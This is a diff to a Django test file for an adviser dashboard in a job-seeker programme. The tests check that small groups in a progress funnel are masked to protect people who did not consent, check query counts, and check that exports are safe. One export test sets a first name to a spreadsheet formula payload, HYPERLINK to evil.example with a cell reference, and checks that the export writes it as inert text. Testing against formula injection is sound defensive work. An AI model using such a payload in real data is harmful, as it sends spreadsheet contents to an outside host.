@@ -133,8 +133,8 @@ def test_dashboard_lists_only_consenting_people_and_counts_everyone(client, worl
     html = unescape(response.content.decode())
     assert "Chloe" not in html
     funnel = {str(stage.label): stage.figure for stage in response.context["funnel"]}
-    # Three people named the adviser (Chloé too): counted, but shown "< 5".
-    assert (funnel["Inscrit·es"].count, funnel["Inscrit·es"].display) == (3, "< 5")
+    # Three people named the adviser (Chloé too): counted, but shown "moins de 5".
+    assert (funnel["Inscrit·es"].count, funnel["Inscrit·es"].display) == (3, "moins de 5")
     assert funnel["Étape 1 terminée"].count == 2
     assert funnel["Étape 2 terminée"].count == 1
 
@@ -168,9 +168,59 @@ def test_funnel_figures_on_a_crafted_dataset(client, world):
     assert figures[:4] == [
         ("Invité·es", "11", "—"),
         ("Inscrit·es", "5", "45 %"),
-        ("Étape 1 terminée", "< 5", "n. d."),  # 3 of 5 → both 3 and the other 2 are small groups
-        ("Étape 2 terminée", "< 5", "n. d."),
+        ("Étape 1 terminée", "moins de 5", "masquée"),  # 3 of 5: both 3 and the other 2 are small
+        ("Étape 2 terminée", "moins de 5", "masquée"),
     ]
+
+
+def test_funnel_masks_a_figure_whose_rest_is_a_small_group_and_says_so_in_words(client, world):
+    """38 of 40 invited people enrolled: "38" would give the 2 others away. It read "> 35 / n. d."."""
+    world.chloe.share_with_adviser = True  # everyone shares: only the 2 not enrolled are to protect
+    world.chloe.save(update_fields=["share_with_adviser"])
+    for n in range(37):
+        SessionEmailInvitation.objects.create(
+            session=world.session, adviser=world.adviser, email=f"p{n}@example.org"
+        )
+    for n in range(35):  # with Alice, Bruno and Chloé (who came through the link): 38
+        EnrolmentFactory(
+            session=world.session,
+            adviser=world.adviser,
+            share_with_adviser=True,
+            job_seeker=UserFactory(email=f"p{n}@example.org"),
+        )
+    client.force_login(world.adviser)
+    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
+    figures = {str(s.label): (s.figure.display, s.figure.share_display) for s in response.context["funnel"]}
+    # Invited: 37 e-mailed + Alice, Bruno and Chloé, who came through the link = 40. The 38 are
+    # listed one by one below (everyone shares): masking "38" would hide nothing, so the 40 is.
+    assert figures["Invité·es"] == ("masqué", "—")
+    assert figures["Inscrit·es"] == ("38", "masquée")
+    html = unescape(response.content.decode())
+    assert "« masqué » un chiffre caché pour qu'on ne puisse pas retrouver un petit groupe" in html
+    assert 'aria-describedby="funnel-note"' in html
+    assert "n. d." not in html
+    assert "> 35" not in html
+
+
+def test_funnel_does_not_give_away_the_progress_of_people_who_did_not_consent(client, world):
+    """The table lists the 10 consenting people who did step 1; the funnel counts everyone. Were
+    it to show 12, the adviser would learn that the 2 people who did not consent did step 1."""
+    for _ in range(10):
+        progress(EnrolmentFactory(session=world.session, adviser=world.adviser, share_with_adviser=True), 1)
+    progress(EnrolmentFactory(session=world.session, adviser=world.adviser, share_with_adviser=False), 1)
+    # With Alice (consents) and Chloé (does not): 11 seen, 2 unseen did step 1.
+    client.force_login(world.adviser)
+    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
+    funnel = {str(stage.label): stage.figure for stage in response.context["funnel"]}
+    assert (funnel["Étape 1 terminée"].count, funnel["Étape 1 terminée"].display) == (13, "masqué")
+    # Staff see everyone one by one: nothing to protect from the table. With Bruno, Damien and
+    # Élise done too, all 16 did step 1 (no small rest either): the figure is shown.
+    for enrolment in (world.bruno, world.damien, world.elise):
+        progress(enrolment, 1)
+    client.force_login(StaffFactory())
+    response = client.get(reverse("programs:adviser_dashboard", args=[world.session.slug]))
+    funnel = {str(stage.label): stage.figure for stage in response.context["funnel"]}
+    assert (funnel["Étape 1 terminée"].display, funnel["Étape 1 terminée"].share_display) == ("16", "100 %")
 
 
 @pytest.mark.parametrize(
@@ -213,17 +263,21 @@ def test_adviser_dashboard_query_count_is_constant(client, django_assert_num_que
 
 @pytest.mark.parametrize("rows", [1, 3])
 def test_adviser_person_query_count_is_constant(client, django_assert_num_queries, world, rows):
-    from tests.programs.workshops.factories import WorkshopFactory
+    from .test_person import MAKERS, panel_rows
 
-    for _ in range(rows):
-        workshop = WorkshopFactory(session=world.session)
-        workshop.bookings.create(enrolment=world.alice, job_seeker=world.alice.job_seeker, status="booked")
+    for n in range(rows):
+        for make in MAKERS.values():
+            make(world.alice, f"n{n}")
     client.force_login(world.adviser)
     url = reverse("programs:adviser_person", args=[world.session.slug, world.alice.public_id])
-    # 7 of the page's own + login session and user + 3 to save the session (first request after login).
-    with django_assert_num_queries(12):
+    # 10 of the page's own (the enrolment, the steps, the progress, one per panel: talks, assessment,
+    # mentoring requests and mentorships, workshops, meetings, applications) + login session and
+    # user + 3 to save the session (first request after login).
+    with django_assert_num_queries(15):
         response = client.get(url)
-    assert len(response.context["bookings"]) == rows
+    shown = panel_rows(response)
+    for panel in MAKERS:
+        assert len(shown[panel]) == (1 if panel == "shared_assessments" else rows), panel
     assert response.context["done_count"] == 2
 
 
@@ -273,6 +327,19 @@ def test_export_of_everyone_never_includes_people_who_did_not_consent(client, wo
         "Bruno Petit",
         "Damien Roux",
     ]
+
+
+@pytest.mark.parametrize("prefix", ["=", "+", "-", "@", "＝"])
+def test_export_writes_formula_like_names_as_inert_text(client, world, prefix):
+    payload = f'{prefix}HYPERLINK("https://evil.example/?"&B2,"Voir")'
+    world.alice.job_seeker.first_name = payload
+    world.alice.job_seeker.save(update_fields=["first_name"])
+    client.force_login(world.adviser)
+    response = client.get(reverse("programs:adviser_export", args=[world.session.slug]), {"q": "martin"})
+    sheet = _sheet(response)
+    cell = sheet["A2"]
+    assert (cell.data_type, cell.value, cell.quotePrefix) == ("s", f"{payload} Martin", True)
+    assert sheet["B2"].value == "alice@example.org"
 
 
 def test_export_with_a_tampered_filter_is_refused(client, world):
